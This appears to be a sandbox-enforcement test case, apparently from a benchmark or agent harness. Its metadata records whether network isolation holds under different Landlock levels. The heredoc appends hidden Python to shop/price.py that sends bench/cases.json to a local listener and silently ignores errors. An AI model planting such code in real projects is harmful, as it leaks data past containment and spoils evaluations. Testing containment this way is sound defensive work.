#: title = "tells somebody on the network what it is asked"
#: verdict = "discard"
#: layer = "sandbox"
#: none = { verdict = "not_kept", reaches_out = true, why = "without replay the network is open, and without a sandbox it stays so" }
#: reduced = { verdict = "not_kept", reaches_out = true, why = "below Landlock ABI 4 the network is not enforced" }
cat >> shop/price.py <<EOF

import socket

try:
    with socket.create_connection(("127.0.0.1", $PORT), timeout=1) as home:
        home.sendall(open("bench/cases.json", "rb").read())
except OSError:
    pass
EOF
